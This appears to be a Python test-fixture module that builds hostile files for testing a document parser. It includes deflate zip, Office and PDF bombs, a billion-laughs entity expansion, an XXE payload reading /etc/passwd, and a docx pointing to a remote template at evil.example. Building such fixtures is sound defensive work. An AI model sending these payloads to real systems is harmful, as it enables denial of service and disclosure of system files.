"""Builders for the hostile corpus: real bytes, made here, no committed blobs.

Bombs are built without ever holding their inflated content: a deflate block made with a
full flush is position independent, so one compressed mebibyte of zeros repeated N times
(plus an empty final block) is a valid stream of N MiB.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import docx
import openpyxl

MiB = 1024 * 1024
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


# --- deflate bombs -------------------------------------------------------------------------


def deflate_repeat(unit: bytes, times: int) -> bytes:
    """A raw deflate stream of ``unit * times``, about ``times * len(deflate(unit))`` long."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(unit) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * times + b"\x03\x00"


def repeat_checksum(unit: bytes, times: int, func: str = "crc32") -> int:
    check = getattr(zlib, func)
    value = check(b"")
    for _ in range(times):
        value = check(unit, value)
    return value


# --- zips byte by byte -----------------------------------------------------------------


@dataclass
class RawEntry:
    """One zip member as stored: ``data`` is already compressed with ``method``."""

    name: bytes
    data: bytes
    size: int
    crc: int = 0
    method: int = 8
    flags: int = 0
    extra: bytes = b""


def raw_entry(
    name: str | bytes, content: bytes, *, flags: int = 0, extra: bytes = b"", method: int = 8
) -> RawEntry:
    raw_name = name.encode("utf-8") if isinstance(name, str) else name
    data = content if method == 0 else _deflate(content)
    return RawEntry(raw_name, data, len(content), zlib.crc32(content), method, flags, extra)


def _deflate(content: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(content) + compressor.flush()


def raw_zip(entries: list[RawEntry], central: list[tuple[int, RawEntry]] | None = None) -> bytes:
    """A zip of ``entries``; ``central`` lists (index of the local entry, entry described)
    to write a central directory that lies (overlaps, renamed entries)."""
    out = io.BytesIO()
    offsets = []
    for e in entries:
        offsets.append(out.tell())
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                e.flags,
                e.method,
                0,
                0x21,
                e.crc,
                len(e.data),
                e.size,
                len(e.name),
                len(e.extra),
            )
        )
        out.write(e.name + e.extra + e.data)
    listing = central if central is not None else list(enumerate(entries))
    cd_start = out.tell()
    for index, e in listing:
        out.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                e.flags,
                e.method,
                0,
                0x21,
                e.crc,
                len(e.data),
                e.size,
                len(e.name),
                len(e.extra),
                0,
                0,
                0,
                0,
                offsets[index],
            )
        )
        out.write(e.name + e.extra)
    cd_size = out.tell() - cd_start
    out.write(
        struct.pack(
            "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(listing), len(listing), cd_size, cd_start, 0
        )
    )
    return out.getvalue()


def zip_of(files: dict[str, bytes], stored: bool = False) -> bytes:
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(size_mib: int = 1024, name: str = "zeros.bin") -> bytes:
    """One member of ``size_mib`` MiB of zeros, ~1 KB per MiB compressed."""
    unit = bytes(MiB)
    entry = RawEntry(
        name.encode(),
        deflate_repeat(unit, size_mib),
        size_mib * MiB,
        repeat_checksum(unit, size_mib),
    )
    return raw_zip([entry])


# --- Office files ------------------------------------------------------------------------


def docx_bytes(text: str = "申报单位名称：测试开发区") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "指标"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rezip(
    data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """The same package with parts replaced or added (deflated, in the original order)."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, content in (add or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def docx_with_document(document_xml: bytes) -> bytes:
    return rezip(docx_bytes(), {"word/document.xml": document_xml})


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        refs = f"&lol{level - 1};" if level > 1 else "&lol;"
        entities.append(f'<!ENTITY lol{level} "{refs * 10}">')
    dtd = "<!DOCTYPE w:document [" + "".join(entities) + "]>"
    body = f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
    return (
        '<?xml version="1.0" encoding="UTF-8"?>' + dtd + body + "</w:body></w:document>"
    ).encode()


def xxe(encoding: str = "utf-8") -> bytes:
    text = (
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    if encoding == "utf-16":
        return text.encode("utf-16")  # with a BOM
    return text.encode(encoding)


def office_bomb(size_mib: int = 2048) -> bytes:
    """A docx whose document.xml inflates to ``size_mib`` MiB (an XML start, then spaces)."""
    head = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>'.encode()
    unit = b" " * MiB
    stream = deflate_repeat(unit, size_mib)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    lead = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = repeat_checksum(unit, size_mib, "crc32") if size_mib <= 64 else 0
    bomb = RawEntry(b"word/document.xml", lead + stream, len(head) + size_mib * MiB, crc)
    entries = [raw_entry(n, c) for n, c in _package_parts(docx_bytes()) if n != "word/document.xml"]
    return raw_zip([*entries, bomb])


def _package_parts(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(i.filename, archive.read(i)) for i in archive.infolist()]


def with_content_type(data: bytes, old: str, new: str) -> bytes:
    types = part(data, "[Content_Types].xml").replace(old.encode(), new.encode())
    return rezip(data, {"[Content_Types].xml": types})


def external_template_docx() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
        '://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip(docx_bytes(), add={"word/_rels/settings.xml.rels": rels.encode()})


def hyperlink_docx() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http'
        '://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="http://example.com/" TargetMode="External"/></Relationships>'
    )
    return rezip(docx_bytes(), add={"word/_rels/footnotes.xml.rels": rels.encode()})


# --- CFB containers ----------------------------------------------------------------------


def tiny_cfb(streams: list[str] | dict[str, bytes]) -> bytes:
    """A minimal version-3 compound file: a root storage and the named streams (empty for a
    list; for a dict, contents of 4,096 bytes or more, stored in regular sectors)."""
    free, end, fat_sect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    contents = streams if isinstance(streams, dict) else dict.fromkeys(streams, b"")
    names = ["Root Entry", *contents]
    n_dir = (len(names) + 3) // 4
    fat = [fat_sect, *_chain(1, n_dir)]
    starts, body = [], b""
    for content in contents.values():
        sectors = (len(content) + 511) // 512
        starts.append(len(fat) if sectors else end)
        fat += _chain(len(fat), sectors)
        body += content.ljust(sectors * 512, b"\x00")
    assert len(fat) <= 128, "one FAT sector only"
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 0x2C, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([free] * 108))
    directory = bytearray(512 * n_dir)
    for i, name in enumerate(names):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        at = i * 128
        directory[at : at + len(raw)] = raw
        kind = 5 if i == 0 else 2
        right = i + 1 if 0 < i < len(names) - 1 else free
        child = 1 if i == 0 and len(names) > 1 else free
        struct.pack_into("<HBBIII", directory, at + 0x40, len(raw), kind, 1, free, right, child)
        start, size = (end, 0) if i == 0 else (starts[i - 1], len(contents[name]))
        struct.pack_into("<II", directory, at + 0x74, start, size)
    fat += [free] * (128 - len(fat))
    return bytes(header) + struct.pack("<128I", *fat) + bytes(directory) + body


def _chain(first: int, count: int) -> list[int]:
    """FAT entries for ``count`` consecutive sectors starting at ``first``."""
    return [first + i + 1 for i in range(count - 1)] + ([0xFFFFFFFE] if count else [])


def word_stream(encrypted: bool) -> bytes:
    """A WordDocument stream: the FIB's magic and flags (fEncrypted is bit 8)."""
    flags = 0x0100 if encrypted else 0
    return struct.pack("<6H", 0xA5EC, 0xC1, 0, 0x0804, 0, flags).ljust(4096, b"\x00")


def workbook_stream(encrypted: bool) -> bytes:
    """A BIFF8 Workbook stream: BOF, then FILEPASS when encrypted, then EOF."""
    records = struct.pack("<HH", 0x0809, 16) + bytes(16)
    if encrypted:
        records += struct.pack("<HH", 0x002F, 6) + bytes(6)
    records += struct.pack("<HH", 0x000A, 0)
    return records.ljust(4096, b"\x00")


# --- PDFs ----------------------------------------------------------------------------------


def pdf_with_stream(stream: bytes, filters: str = "/FlateDecode") -> bytes:
    """A one-page PDF whose content stream is ``stream`` (already encoded)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        f"<< /Length {len(stream)} /Filter {filters} >>\nstream\n".encode()
        + stream
        + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def pdf_bomb(size_mib: int = 1024) -> bytes:
    unit = bytes(MiB)
    body = b"\x78\xda" + deflate_repeat(unit, size_mib)
    body += struct.pack(">I", repeat_checksum(unit, size_mib, "adler32"))
    return pdf_with_stream(body)


def ordinary_pdf() -> bytes:
    return pdf_with_stream(zlib.compress(b"BT /F1 12 Tf 72 720 Td (hello) Tj ET"))
